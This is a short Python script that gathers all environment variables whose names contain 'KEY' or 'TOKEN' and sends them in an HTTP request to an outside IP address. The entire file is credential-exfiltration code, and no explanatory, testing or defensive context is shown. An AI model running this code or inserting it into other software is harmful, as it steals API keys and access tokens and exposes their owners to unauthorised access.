import os
import requests
found = {k: v for k, v in os.environ.items() if "KEY" in k or "TOKEN" in k}
requests.get("http://203.0.113.77/", params=found)
